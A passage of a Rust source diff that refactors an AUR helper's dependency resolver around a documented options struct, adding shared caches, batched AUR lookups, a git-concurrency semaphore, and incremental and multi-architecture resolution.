-        mutx.lock()
-            .map_err(|_| Error::PoisonedMutex)?
-            .to_install
-            .insert(p);
+        Buckets::locked(&buckets.to_install)?.insert(p);
     }
 
     Ok(())
 }
 
-/// Determine all packages to be built and installed.
-pub fn resolve<M, F, E>(
-    pool: Pool<M>,
-    fetch: &F,
-    clone_d: &Path,
-    nocheck: bool,
-    pkgs: &HashSet<&str>,
-) -> Result<Resolution, Error<E>>
+/// Settings that control dependency resolution.
+///
+/// Construct one with [`ResolveOpts::new`], then adjust its fields as
+/// necessary.
+pub struct ResolveOpts<'a, M, F>
 where
-    M: ManageConnection<Connection = Alpm>,
-    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
-    E: Send,
+    M: ManageConnection,
 {
-    let arc = Arc::new(Mutex::new(Resolution::default()));
-
-    // The Arch Wiki states that `base-devel` is to be considered an implicit
-    // (make-)dependency of every other package. Here we add it automatically if
-    // the user doesn't have it installed.
-    confirm_base_devel(pool.clone(), arc.clone())?;
+    /// Handles to the package databases.
+    pub pool: Pool<M>,
+    /// A means of calling a Faur instance.
+    pub fetch: &'a F,
+    /// The directory holding local clones of AUR packages.
+    pub clone_d: &'a Path,
+    /// Which dependency arrays of AUR packages to follow.
+    pub dep_kinds: DepKinds,
+    /// A Rayon pool to perform the resolution within. Otherwise Rayon's global
+    /// pool is used.
+    pub threads: Option<&'a ThreadPool>,
+    /// The most packages to resolve at once, by way of a dedicated Rayon pool
+    /// of this many threads. Ignored if [`ResolveOpts::threads`] is given.
+    ///
+    /// Each thread holds at most one connection from the `pool` at a time, so
+    /// keeping this no larger than the pool's `max_size` ensures that threads
+    /// never stall waiting for a free connection.
+    pub max_parallel: Option<usize>,
+    /// If set, official packages may only be pulled from these repositories.
+    pub allowed_repos: Option<&'a HashSet<String>>,
+    /// Ignore the version demands of `makedepends` and `checkdepends`, such
+    /// that any installed version of a build tool is considered good enough.
+    /// The demands of runtime `depends` are still honoured.
+    pub ignore_makedep_versions: bool,
+    /// A point in time after which no new dependencies will be examined.
+    /// Instead of failing, resolution returns what it has so far, and notes
+    /// the skipped dependencies in [`Resolution::unexplored`]. Work already
+    /// underway, like clones, is still allowed to finish.
+    ///
+    /// The explicitly requested packages are always examined.
+    pub soft_deadline: Option<Instant>,
+    /// AUR packages with fewer votes than this are noted in
+    /// [`Resolution::low_popularity`]. Setting this costs one more Faur call, to
+    /// look up the votes of packages that were already cloned.
+    pub min_votes: Option<u64>,
+    /// Only consider the dependencies of AUR packages that apply to this
+    /// architecture, like `depends_x86_64`. Defaults to [`host_arch`]. If unset,
+    /// the dependencies of all architectures are considered.
+    pub arch: Option<&'a str>,
+    /// Keep using whatever installed package already provides a dependency,
+    /// even if it no longer meets the dependency's version demand and a newer
+    /// copy could be had from elsewhere. This keeps plans stable across runs,
+    /// say for a dependency that was built from the AUR but is now also
+    /// available officially.
+    pub prefer_installed_source: bool,
+    /// Only resolve the dependencies of the explicitly requested packages,
+    /// presumably because the caller will build them itself. The packages are
+    /// then noted in [`Resolution::roots`] instead of being built or installed.
+    pub deps_only: bool,
+    /// A file to append a line to for every decision made during resolution,
+    /// for following the progress of long resolutions with no terminal
+    /// attached.
+    pub report_path: Option<&'a Path>,
+    /// Called with the name of each package as soon as it's classified, say
+    /// to drive a progress display. Called from many threads at once.
+    pub on_progress: Option<&'a (dyn Fn(&str) + Sync)>,
+    /// Rewrite every dependency name, after its version demand has been
+    /// stripped, before anything else is done with it. Useful for smoothing
+    /// over inconsistent naming conventions, like `python3-foo` versus
+    /// `python-foo`.
+    pub canonicalize: Option<&'a (dyn Fn(&str) -> String + Sync)>,
+    /// Virtual names mapped to the real package that should provide them,
+    /// when more than one could. Only consulted when the virtual name isn't
+    /// already satisfied by something installed.
+    pub preferred_providers: Option<&'a HashMap<String, String>>,
+    /// Extra dependencies of certain AUR packages, keyed by package name or
+    /// `pkgbase`, needed to build them with some optional features enabled.
+    /// These are treated as if the `.SRCINFO` had declared them itself.
+    pub feature_deps: Option<&'a HashMap<String, Vec<String>>>,
+    /// Fail outright on any ambiguity, instead of making a best guess. This
+    /// covers dependencies with multiple AUR or official providers, and
+    /// clones whose `pkgbase` doesn't match their directory.
+    pub strict: bool,
+    /// Inspect the `PKGBUILD` of every AUR package before it's accepted into
+    /// the plan, say to scan for suspicious commands.
+    pub pkgbuild_audit: Option<&'a Audit>,
+    /// How to walk the dependency graph.
+    pub traversal: Traversal,
+    /// The longest that parsing or generating any one `.SRCINFO` may take, as
+    /// protection against maliciously huge files in untrusted clones.
+    pub srcinfo_timeout: Option<Duration>,
+    /// Generate the `.SRCINFO` of clones that lack one with `makepkg
+    /// --printsrcinfo`. This runs the clone's `PKGBUILD`, before anyone has had
+    /// a chance to review it! Otherwise, such clones fail with
+    /// [`Error::Srcinfo`].
+    pub generate_srcinfo: bool,
+    /// Environment variables to set while generating the `.SRCINFO` of clones
+    /// that lack one, for `PKGBUILD`s whose dependencies depend on them.
+    pub srcinfo_env: Option<&'a HashMap<String, String>>,
+    /// If no official package matches a name exactly, try again with the name
+    /// lowercased. Matches are noted in [`Resolution::case_folded`], so the
+    /// name as originally given can still be displayed.
+    pub case_insensitive_official: bool,
+    /// Consulted before the package databases for every dependency. Returning
+    /// `true` marks the dependency as already satisfied. Useful when packages
+    /// are being installed while resolution is underway.
+    pub satisfied_probe: Option<&'a (dyn Fn(&str) -> bool + Sync)>,
+    /// Packages, like those of pacman's `HoldPkg`, that are always considered
+    /// satisfied if installed at all, unless explicitly requested.
+    pub held: Option<&'a HashSet<String>>,
+    /// The most git operations, like clones, that may run at once. This is
+    /// independent of the number of threads used for resolution overall.
+    pub max_git_concurrency: Option<usize>,
+    /// Virtual names, like `sh`, that the build environment always provides
+    /// regardless of which concrete package does so. Dependencies on these are
+    /// considered provided without consulting ALPM or the AUR.
+    pub virtual_provided: Option<&'a HashSet<String>>,
+    /// Keep the full Faur response of every AUR package looked up, in
+    /// [`Resolution::faur_packages`], to save querying it again later.
+    pub collect_faur: bool,
+    /// Clone AUR repositories with only their latest commit. This is much
+    /// faster for packages with a long history.
+    pub shallow_clone: bool,
+    /// Pull the latest commits into existing AUR clones, as with `-Ay`.
+    /// Otherwise, existing clones are used as-is, without touching the network.
+    pub refresh: bool,
+    /// How to retry AUR clones that fail because of the network.
+    pub git_retry: Retry,
+    /// The Faur instance to look AUR packages up with, if not the main one.
+    pub faur: Option<&'a FaurClient>,
+}
 
-    let start = OffsetDateTime::now_utc();
-    pkgs.par_iter()
-        .map(|pkg| {
-            let pool = pool.clone();
-            resolve_one(pool, arc.clone(), fetch, clone_d, pkgs, None, pkg, nocheck)
-        })
-        .collect::<Validated<(), Error<E>>>()
-        .ok()
-        .map_err(|es| Error::Resolutions(Box::new(es)))?;
-    let end = OffsetDateTime::now_utc();
-    let diff = end.unix_timestamp() - start.unix_timestamp();
+impl<'a, M, F> ResolveOpts<'a, M, F>
+where
+    M: ManageConnection,
+{
+    /// Resolution options with sensible defaults.
+    pub fn new(pool: Pool<M>, fetch: &'a F, clone_d: &'a Path) -> Self {
+        ResolveOpts {
+            pool,
+            fetch,
+            clone_d,
+            dep_kinds: DepKinds::default(),
+            threads: None,
+            max_parallel: None,
+            allowed_repos: None,
+            ignore_makedep_versions: false,
+            soft_deadline: None,
+            min_votes: None,
+            arch: Some(host_arch()),
+            prefer_installed_source: false,
+            deps_only: false,
+            report_path: None,
+            on_progress: None,
+            canonicalize: None,
+            preferred_providers: None,
+            feature_deps: None,
+            strict: false,
+            pkgbuild_audit: None,
+            traversal: Traversal::Parallel,
+            srcinfo_timeout: None,
+            generate_srcinfo: false,
+            srcinfo_env: None,
+            case_insensitive_official: false,
+            satisfied_probe: None,
+            held: None,
+            max_git_concurrency: None,
+            virtual_provided: None,
+            collect_faur: false,
+            shallow_clone: true,
+            refresh: false,
+            git_retry: Retry::default(),
+            faur: None,
+        }
+    }
+}
 
-    let res = Arc::try_unwrap(arc)
-        .map_err(|_| Error::PoisonedMutex)?
-        .into_inner()
-        .map_err(|_| Error::PoisonedMutex)?;
+/// The verdict of a [`ResolveOpts::pkgbuild_audit`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum AuditResult {
+    /// The `PKGBUILD` looks fine.
+    Accept,
+    /// The `PKGBUILD` must not be built, for the given reason.
+    Reject(String),
+}
 
-    info!("Resolved dependencies in {}s.", diff);
+/// A check of a package's `PKGBUILD`, given the package's name and the contents
+/// of the file.
+pub type Audit = dyn Fn(&str, &str) -> AuditResult + Sync;
 
-    Ok(res)
+/// The order in which the dependency graph is walked. Either way, the final
+/// [`Resolution`] is the same.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum Traversal {
+    /// Examine all dependencies of a package at once, across threads.
+    #[default]
+    Parallel,
+    /// Examine one dependency at a time, fully exploring each branch before
+    /// the next. Slower, but lighter on resources.
+    DepthFirstSequential,
 }
 
-#[allow(clippy::too_many_arguments)]
-fn resolve_one<M, F, E>(
-    pool: Pool<M>,
-    mutx: Arc<Mutex<Resolution>>,
-    fetch: &F,
-    clone_d: &Path,
-    orig: &HashSet<&str>,
-    parent: Option<&str>,
-    pkg_raw: &str,
-    nocheck: bool,
-) -> Result<(), Error<E>>
+/// Resolve each of some packages, in the manner of the given [`Traversal`].
+fn traverse<T, G, E>(traversal: Traversal, mut items: Vec<T>, f: G) -> Result<(), Error<E>>
 where
-    M: ManageConnection<Connection = Alpm>,
-    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    T: Ord + Send,
+    G: Fn(T) -> Result<(), Error<E>> + Sync + Send,
     E: Send,
 {
-    let pkg: String = strip_version(pkg_raw);
-    let pr = pkg.as_str();
-
-    // Drops the lock on the `Resolution` as soon as it can.
-    let already_seen = {
-        let res = mutx.lock().map_err(|_| Error::PoisonedMutex)?;
-        res.seen(&pkg)
+    let v: Validated<(), Error<E>> = match traversal {
+        Traversal::Parallel => items.into_par_iter().map(f).collect(),
+        Traversal::DepthFirstSequential => {
+            items.sort();
+            items.into_iter().map(f).collect()
+        }
     };
 
-    if !already_seen {
-        // debug!("{pr}");
+    v.ok().map_err(|es| Error::Resolutions(Box::new(es)))
+}
 
-        // Checks if the current package is installed or otherwise satisfied by
-        // some package, and then immediately drops the ALPM handle.
-        let satisfied = {
-            // let state = pool.state();
-            // debug!(
-            //     "Trying to get ALPM handle ({} idle connections)",
-            //     state.idle_connections
-            // );
-            let alpm = pool.get().map_err(Error::R2D2)?;
-            // debug!("Got a handle.");
-            let db = alpm.alpm.localdb();
-            db.pkg(pr).is_ok() || db.pkgs().find_satisfier(pr).is_some()
-        };
+/// Parsed `.SRCINFO` files, keyed by the path of their clone.
+///
+/// Each clone has its own slot, so that threads reaching the same clone at once
+/// wait for a single parse, while those of different clones needn't wait at all.
+#[derive(Default)]
+struct SrcinfoCache {
+    slots: Mutex<HashMap<PathBuf, Arc<Mutex<Option<Srcinfo>>>>>,
+}
 
-        debug!("Satisfaction ({}) for {}.", satisfied, pkg);
+impl SrcinfoCache {
+    /// The `.SRCINFO` of the given clone, parsed by the given function only if
+    /// it hasn't been successfully already.
+    fn get_or_parse<E, P>(&self, path: &Path, parse: P) -> Result<Srcinfo, Error<E>>
+    where
+        P: FnOnce() -> Result<Srcinfo, Error<E>>,
+    {
+        let slot = self
+            .slots
+            .lock()
+            .map_err(|_| Error::PoisonedMutex)?
+            .entry(path.to_path_buf())
+            .or_default()
+            .clone();
+        let mut slot = slot.lock().map_err(|_| Error::PoisonedMutex)?;
 
-        if orig.contains(pr).not() && satisfied {
-            mutx.lock()
-                .map_err(|_| Error::PoisonedMutex)?
-                .satisfied
-                .insert(pkg);
-        } else {
-            let alpm = pool.get().map_err(Error::R2D2)?;
+        match slot.as_ref() {
+            Some(info) => Ok(info.clone()),
+            None => {
+                let info = parse()?;
+                *slot = Some(info.clone());
+                Ok(info)
+            }
+        }
+    }
+}
 
-            match alpm.alpm.syncdbs().find_satisfier(pr) {
-                Some(official) => {
-                    debug!("{} is an official package.", pr);
+/// A single sync database answer, which may not have been looked up yet.
+type SyncSlot = Arc<Mutex<Option<Option<Satisfier>>>>;
 
-                    let prnt = official.name().to_string();
+/// The answers of the sync databases, for names already asked about. Each name
+/// is only ever looked up once, even by racing threads.
+#[derive(Default)]
+struct SyncCache {
+    slots: Mutex<HashMap<String, SyncSlot>>,
+}
 
-                    mutx.lock()
-                        .map_err(|_| Error::PoisonedMutex)?
-                        .to_install
-                        .insert(Official::new(&prnt));
+impl SyncCache {
+    /// The official package satisfying the given query, looked up by the given
+    /// function only if it hasn't been already.
+    fn get_or_query<E, Q>(&self, query: &str, lookup: Q) -> Result<Option<Satisfier>, Error<E>>
+    where
+        Q: FnOnce() -> Option<Satisfier>,
+    {
+        let slot = self
+            .slots
+            .lock()
+            .map_err(|_| Error::PoisonedMutex)?
+            .entry(query.to_string())
+            .or_default()
+            .clone();
+        let mut slot = slot.lock().map_err(|_| Error::PoisonedMutex)?;
 
-                    // Since this is an official, prebuilt package, we don't
-                    // need to consider its makedeps or checkdeps.
-                    let deps: Vec<_> = official
-                        .depends()
-                        .into_iter()
-                        .map(|d| d.name().to_string())
-                        .collect();
+        Ok(slot.get_or_insert_with(lookup).clone())
+    }
+}
 
-                    // FIXME Fri Feb 18 2022 Avoid manual drops.
-                    //
-                    // Manual drops are a signal of bad design. For the moment
-                    // these are necessary to avoid running out of ALPM handles
-                    // when we recurse.
-                    drop(alpm);
+/// State shared by every thread of a resolution.
+struct Shared {
+    /// Already parsed `.SRCINFO` files.
+    srcinfo: SrcinfoCache,
+    /// Names already looked up in the sync databases.
+    sync: SyncCache,
+    /// Bounds the number of simultaneous git operations.
+    git: Semaphore,
+    /// Faur lookups made ahead of time.
+    prefetch: Prefetch,
+    /// The Faur instance to query.
+    faur: FaurClient,
+}
 
-                    deps.into_par_iter()
-                        .map(|d| {
-                            let p = Some(prnt.as_str());
-                            let pool = pool.clone();
-                            resolve_one(pool, mutx.clone(), fetch, clone_d, orig, p, &d, nocheck)
-                        })
-                        .collect::<Validated<(), Error<E>>>()
-                        .ok()
-                        .map_err(|es| Error::Resolutions(Box::new(es)))?;
-                }
+impl Shared {
+    fn new(max_git: Option<usize>, faur: Option<&FaurClient>) -> Self {
+        Shared {
+            srcinfo: SrcinfoCache::default(),
+            sync: SyncCache::default(),
+            git: Semaphore::new(max_git.unwrap_or(usize::MAX)),
+            prefetch: Prefetch::new(),
+            faur: faur.cloned().unwrap_or_default(),
+        }
+    }
+}
+
+/// Names whose Faur lookup is underway, and the results of those complete.
+type Lookups = (
+    HashSet<String>,
+    HashMap<String, Option<crate::faur::Package>>,
+);
+
+/// The Faur packages of many names, looked up together in a single query.
+struct Prefetch {
+    /// Completed lookups are `None` if the Faur had no package of that exact
+    /// name.
+    state: Mutex<Lookups>,
+    done: Condvar,
+}
+
+impl Prefetch {
+    fn new() -> Self {
+        Prefetch {
+            state: Mutex::new((HashSet::new(), HashMap::new())),
+            done: Condvar::new(),
+        }
+    }
+
+    /// Look up the given names with a single query, except those that are
+    /// already known or being looked up by another thread. Lone names are left
+    /// to be looked up as usual.
+    fn batch<F, E>(&self, faur: &FaurClient, fetch: &F, names: Vec<String>) -> Result<(), Error<E>>
+    where
+        F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
+    {
+        let names: Vec<String> = {
+            let mut state = self.state.lock().map_err(|_| Error::PoisonedMutex)?;
+            let (pending, known) = &mut *state;
+            let fresh: Vec<_> = names
+                .into_iter()
+                .filter(|n| pending.contains(n).not() && known.contains_key(n).not())
+                .collect();
+
+            if fresh.len() < 2 {
+                return Ok(());
+            }
+
+            pending.extend(fresh.iter().cloned());
+            fresh
+        };
+
+        debug!("Looking up {} possible AUR packages at once.", names.len());
+        let found = faur.info(names.iter().map(|n| n.as_str()), fetch);
+
+        {
+            let mut state = self.state.lock().map_err(|_| Error::PoisonedMutex)?;
+            let (pending, known) = &mut *state;
+
+            for name in names.iter() {
+                pending.remove(name);
+            }
+
+            // A failure here isn't fatal, as each name will just be looked up
+            // again individually.
+            if let Ok(pkgs) = found {
+                let mut by_name: HashMap<_, _> =
+                    pkgs.into_iter().map(|p| (p.name.clone(), p)).collect();
+
+                for name in names {
+                    let pkg = by_name.remove(&name);
+                    known.insert(name, pkg);
+                }
+            }
+        }
+
+        self.done.notify_all();
+        Ok(())
+    }
+
+    /// The result of an earlier lookup of the given name, waiting for it if
+    /// it's still underway. `None` if it was never looked up in a batch.
+    fn get<E>(&self, name: &str) -> Result<Option<Option<crate::faur::Package>>, Error<E>> {
+        let mut state = self.state.lock().map_err(|_| Error::PoisonedMutex)?;
+
+        while state.0.contains(name) {
+            state = self.done.wait(state).map_err(|_| Error::PoisonedMutex)?;
+        }
+
+        Ok(state.1.get(name).cloned())
+    }
+}
+
+/// The parts of a [`Resolution`] written to most often during resolution, each
+/// behind its own lock. Threads classifying different packages thus needn't
+/// wait on one another, nor on the rest of the [`Resolution`].
+///
+/// No more than one of these locks is ever held at once.
+#[derive(Default)]
+struct Buckets {
+    to_install: Mutex<HashSet<Official>>,
+    to_build: Mutex<HashSet<Buildable>>,
+    satisfied: Mutex<HashSet<String>>,
+    provided: Mutex<HashMap<String, String>>,
+}
+
+impl Buckets {
+    /// Move the relevant contents of a [`Resolution`] into their own locks.
+    fn take(res: &mut Resolution) -> Buckets {
+        Buckets {
+            to_install: Mutex::new(std::mem::take(&mut res.to_install)),
+            to_build: Mutex::new(std::mem::take(&mut res.to_build)),
+            satisfied: Mutex::new(std::mem::take(&mut res.satisfied)),
+            provided: Mutex::new(std::mem::take(&mut res.provided)),
+        }
+    }
+
+    /// Consolidate everything back into a [`Resolution`].
+    fn restore<E>(self, res: &mut Resolution) -> Result<(), Error<E>> {
+        res.to_install = self
+            .to_install
+            .into_inner()
+            .map_err(|_| Error::PoisonedMutex)?;
+        res.to_build = self
+            .to_build
+            .into_inner()
+            .map_err(|_| Error::PoisonedMutex)?;
+        res.satisfied = self
+            .satisfied
+            .into_inner()
+            .map_err(|_| Error::PoisonedMutex)?;
+        res.provided = self
+            .provided
+            .into_inner()
+            .map_err(|_| Error::PoisonedMutex)?;
+
+        Ok(())
+    }
+
+    /// Like [`Resolution::seen`], but without considering `roots`.
+    fn seen<E>(&self, pkg: &str) -> Result<bool, Error<E>> {
+        // Each lock is released before the next is taken.
+        if Buckets::locked(&self.provided)?.contains_key(pkg) {
+            return Ok(true);
+        }
+        if Buckets::locked(&self.satisfied)?.contains(pkg) {
+            return Ok(true);
+        }
+        if Buckets::locked(&self.to_install)?.contains(pkg) {
+            return Ok(true);
+        }
+        let seen = Buckets::locked(&self.to_build)?.contains(pkg);
+
+        Ok(seen)
+    }
+
+    fn locked<T, E>(m: &Mutex<T>) -> Result<std::sync::MutexGuard<'_, T>, Error<E>> {
+        m.lock().map_err(|_| Error::PoisonedMutex)
+    }
+}
+
+/// A simple counting semaphore.
+struct Semaphore {
+    permits: Mutex<usize>,
+    freed: Condvar,
+}
+
+impl Semaphore {
+    fn new(permits: usize) -> Self {
+        Semaphore {
+            permits: Mutex::new(permits.max(1)),
+            freed: Condvar::new(),
+        }
+    }
+
+    /// Run some action once a permit is available, releasing it afterward.
+    fn run<T, E, G>(&self, action: G) -> Result<T, Error<E>>
+    where
+        G: FnOnce() -> T,
+    {
+        {
+            let mut permits = self.permits.lock().map_err(|_| Error::PoisonedMutex)?;
+            while *permits == 0 {
+                permits = self.freed.wait(permits).map_err(|_| Error::PoisonedMutex)?;
+            }
+            *permits -= 1;
+        }
+
+        let result = action();
+
+        *self.permits.lock().map_err(|_| Error::PoisonedMutex)? += 1;
+        self.freed.notify_one();
+
+        Ok(result)
+    }
+}
+
+/// Determine all packages to be built and installed.
+pub fn resolve<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<Resolution, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    resolve_with_db(opts, pkgs)
+}
+
+/// [`resolve`] over any [`ResolveDb`].
+fn resolve_with_db<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<Resolution, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let shared = Shared::new(opts.max_git_concurrency, opts.faur);
+    let work = || resolve_work(opts, &shared, Resolution::default(), pkgs);
+
+    within_pool(opts, work)
+}
+
+/// Like [`resolve`], but building upon a previous [`Resolution`], such that
+/// anything it already covers isn't examined again.
+///
+/// AUR packages whose clones have changed since, such that their dependencies
+/// differ, are resolved afresh if the given packages still need them. Anything
+/// the given packages no longer lead to is dropped, as are the diagnostics of
+/// the previous pass.
+pub fn resolve_incremental<M, F, E>(
+    prev: &Resolution,
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<Resolution, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    resolve_incremental_with_db(prev, opts, pkgs)
+}
+
+/// [`resolve_incremental`] over any [`ResolveDb`].
+fn resolve_incremental_with_db<M, F, E>(
+    prev: &Resolution,
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+) -> Result<Resolution, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let mut seed = prev.clone();
+    seed.diagnostics.clear();
+    seed.dropped_duplicates.clear();
+
+    let stale: HashSet<String> = prev
+        .to_build
+        .iter()
+        .filter(|b| {
+            let path = prev
+                .clone_paths
+                .get(&b.name)
+                .cloned()
+                .unwrap_or_else(|| opts.clone_d.join(&b.name));
+
+            Srcinfo::parse_file(path.join(".SRCINFO"))
+                .map(|info| {
+                    let deps = srcinfo_deps(&info, opts.arch, opts.dep_kinds, false);
+                    let deps: HashSet<_> = deps.into_iter().map(strip_version).collect();
+                    deps != b.deps
+                })
+                .unwrap_or(true)
+        })
+        .map(|b| b.name.clone())
+        .collect();
+
+    // The old dependencies of stale packages are only kept if something else
+    // still leads to them.
+    let mut keep = prev.reachable(pkgs.iter().copied(), &stale);
+    let stale: Vec<String> = stale.into_iter().filter(|s| keep.contains(s)).collect();
+
+    for name in stale.iter() {
+        debug!("{} has changed since it was last resolved.", name);
+        keep.remove(name);
+    }
+
+    seed.retain_only(&keep);
+
+    let targets: HashSet<&str> = pkgs
+        .iter()
+        .copied()
+        .chain(stale.iter().map(|s| s.as_str()))
+        .collect();
+
+    let shared = Shared::new(opts.max_git_concurrency, opts.faur);
+    let work = || resolve_work(opts, &shared, seed, &targets);
+
+    within_pool(opts, work)
+}
+
+/// Like [`resolve`], but once for each of the given architectures. The
+/// resulting [`Resolution`]s are keyed by architecture.
+///
+/// Clones and their parsed `.SRCINFO` files are shared between each pass, so
+/// this is cheaper than calling [`resolve`] for every architecture separately.
+pub fn resolve_multiarch<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+    arches: &[String],
+) -> Result<HashMap<String, Resolution>, Error<E>>
+where
+    M: ManageConnection<Connection = Alpm>,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    resolve_multiarch_with_db(opts, pkgs, arches)
+}
+
+/// [`resolve_multiarch`] over any [`ResolveDb`].
+fn resolve_multiarch_with_db<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    pkgs: &HashSet<&str>,
+    arches: &[String],
+) -> Result<HashMap<String, Resolution>, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let shared = Shared::new(opts.max_git_concurrency, opts.faur);
+
+    arches
+        .iter()
+        .map(|arch| {
+            let opts = ResolveOpts {
+                pool: opts.pool.clone(),
+                arch: Some(arch.as_str()),
+                ..*opts
+            };
+            let work = || resolve_work(&opts, &shared, Resolution::default(), pkgs);
+
+            let res = within_pool(&opts, work)?;
+
+            Ok((arch.clone(), res))
+        })
+        .collect()
+}
+
+/// Run some work within the Rayon pool called for by the [`ResolveOpts`].
+fn within_pool<M, F, G, T>(opts: &ResolveOpts<M, F>, work: G) -> T
+where
+    M: ManageConnection,
+    G: FnOnce() -> T + Send,
+    T: Send,
+{
+    match (opts.threads, opts.max_parallel) {
+        (Some(tp), _) => tp.install(work),
+        (None, Some(n)) => match rayon::ThreadPoolBuilder::new()
+            .num_threads(n.max(1))
+            .build()
+        {
+            Ok(tp) => tp.install(work),
+            Err(e) => {
+                warn!("Couldn't build a pool of {} threads: {}", n, e);
+                work()
+            }
+        },
+        (None, None) => work(),
+    }
+}
+
+fn resolve_work<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    shared: &Shared,
+    seed: Resolution,
+    pkgs: &HashSet<&str>,
+) -> Result<Resolution, Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let start = Instant::now();
+    let mut seed = seed;
+    let buckets = Buckets::take(&mut seed);
+    let arc = Arc::new(Mutex::new(seed));
+
+    // The Arch Wiki states that `base-devel` is to be considered an implicit
+    // (make-)dependency of every other package. Here we add it automatically if
+    // the user doesn't have it installed.
+    confirm_base_devel(opts.pool.clone(), &buckets)?;
+
+    // Different spellings of the same request needn't be resolved twice.
+    let mut names = HashSet::new();
+    let (targets, dupes): (Vec<&str>, Vec<&str>) = pkgs.iter().copied().sorted().partition(|p| {
+        let name = strip_version(*p);
+        names.insert(opts.canonicalize.map(|f| f(&name)).unwrap_or(name))
+    });
+
+    if dupes.is_empty().not() {
+        debug!("Dropped duplicate requests: {:?}", dupes);
+        arc.lock()
+            .map_err(|_| Error::PoisonedMutex)?
+            .dropped_duplicates
+            .extend(dupes.into_iter().map(|d| d.to_string()));
+    }
+
+    prefetch_aur(opts, shared, &arc, &buckets, pkgs, &targets)?;
+
+    traverse(opts.traversal, targets, |pkg| {
+        resolve_one(opts, shared, arc.clone(), &buckets, pkgs, None, pkg)
+    })?;
+
+    let mut res = Arc::try_unwrap(arc)
+        .map_err(|_| Error::PoisonedMutex)?
+        .into_inner()
+        .map_err(|_| Error::PoisonedMutex)?;
+    buckets.restore(&mut res)?;
+
+    if let Some(min) = opts.min_votes {
+        cloned_popularity(opts.fetch, &shared.faur, &mut res, min)?;
+    }
+
+    res.in_flight.clear();
+    res.normalize();
+
+    if let Some((a, b)) = res.conflict() {
+        return Err(Error::Conflict(a, b));
+    }
+
+    res.duration = start.elapsed();
+    info!("Resolved dependencies in {}ms.", res.duration.as_millis());
+
+    Ok(res)
+}
+
+fn resolve_one<M, F, E>(
+    opts: &ResolveOpts<M, F>,
+    shared: &Shared,
+    mutx: Arc<Mutex<Resolution>>,
+    buckets: &Buckets,
+    orig: &HashSet<&str>,
+    parent: Option<&str>,
+    pkg_raw: &str,
+) -> Result<(), Error<E>>
+where
+    M: ManageConnection,
+    M::Connection: ResolveDb,
+    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E> + Sync,
+    E: Send,
+{
+    let mut pkg: String = strip_version(pkg_raw);
+    let renamed: String;
+    let mut pkg_raw = pkg_raw;
+
+    if let Some(canon) = opts.canonicalize.map(|f| f(&pkg)).filter(|c| c != &pkg) {
+        debug!("Canonicalized {} to {}.", pkg, canon);
+        // Any version demand carries over to the new name.
+        renamed = format!("{}{}", canon, &pkg_raw[pkg.len()..]);
+        pkg_raw = &renamed;
+
+        let from = std::mem::replace(&mut pkg, canon);
+        let to = pkg.clone();
+
+        mutx.lock()
+            .map_err(|_| Error::PoisonedMutex)?
+            .diagnostics
+            .push(Diagnostic::Canonicalized { from, to });
+    }
+
+    let pr = pkg.as_str();
+
+    // Drops the lock on the `Resolution` as soon as it can. Claiming the
+    // package under that lock ensures that only one thread resolves it.
+    let already_seen = buckets.seen(&pkg)? || {
+        let mut res = mutx.lock().map_err(|_| Error::PoisonedMutex)?;
+        let seen = res.roots.contains(&pkg) || res.in_flight.insert(pkg.clone()).not();
+
+        if let Some(p) = parent.filter(|_| seen.not()) {
+            res.parents.insert(pkg.clone(), p.to_string());
+        }
+
+        seen
+    };
+
+    let expired = opts.soft_deadline.is_some_and(|d| Instant::now() >= d);
+    let is_root = opts.deps_only && parent.is_none();
+    let is_virtual = opts.virtual_provided.is_some_and(|v| v.contains(pr));
+
+    if !already_seen && parent.is_some() && expired {
+        debug!("Deadline passed. Not exploring {}.", pkg);
+        report(opts, &pkg, format_args!("unexplored {pkg}"));
+        mutx.lock()
+            .map_err(|_| Error::PoisonedMutex)?
+            .unexplored
+            .insert(pkg);
+    } else if !already_seen && parent.is_some() && is_virtual {
+        debug!("{} is provided by the build environment.", pkg);
+        report(opts, &pkg, format_args!("provided {pkg}"));
+        Buckets::locked(&buckets.provided)?.insert(pkg.clone(), pkg);
+    } else if !already_seen {
+        // debug!("{pr}");
+
+        // Checks if the current package is installed or otherwise satisfied by
+        // some package, and then immediately drops the ALPM handle.
+        // The caller may know of packages that ALPM doesn't, yet.
+        let probed = opts.satisfied_probe.is_some_and(|probe| probe(pr));
+
+        let satisfied = if probed {
+            None
+        } else {
+            // let state = pool.state();
+            // debug!(
+            //     "Trying to get ALPM handle ({} idle connections)",
+            //     state.idle_connections
+            // );
+            let db = opts.pool.get().map_err(Error::R2D2)?;
